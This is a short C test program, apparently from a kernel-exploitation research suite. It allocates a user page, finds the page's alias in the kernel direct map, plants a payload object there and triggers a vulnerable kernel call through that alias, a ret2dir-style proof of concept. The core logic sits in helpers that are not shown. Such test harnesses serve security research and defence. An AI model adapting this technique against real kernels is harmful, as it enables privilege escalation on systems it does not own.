/* The kernel zeroes a page in the direct map, and leads itself there before it forgets the place.
 */
#include "attack.h"

enum { CPU_OF_ATTACKER, NR_CPUS };

int main(void)
{
	struct bw_leak leak;
	uint64_t synonym;
	char *page;

	attack_begin(&leak, NR_CPUS, CPU_OF_ATTACKER);
	attack_say("a page is touched, and the kernel called through it at once");
	/* From here on nothing is said: another process on this processor would make it forget. */
	page = attack_pages(BW_PAGE_SIZE);
	synonym = attack_synonym(&leak, page);
	payload_object(page, synonym, &leak);
	attack_check("vuln_call", bw_vuln_call(synonym));
	return attack_finish();
}
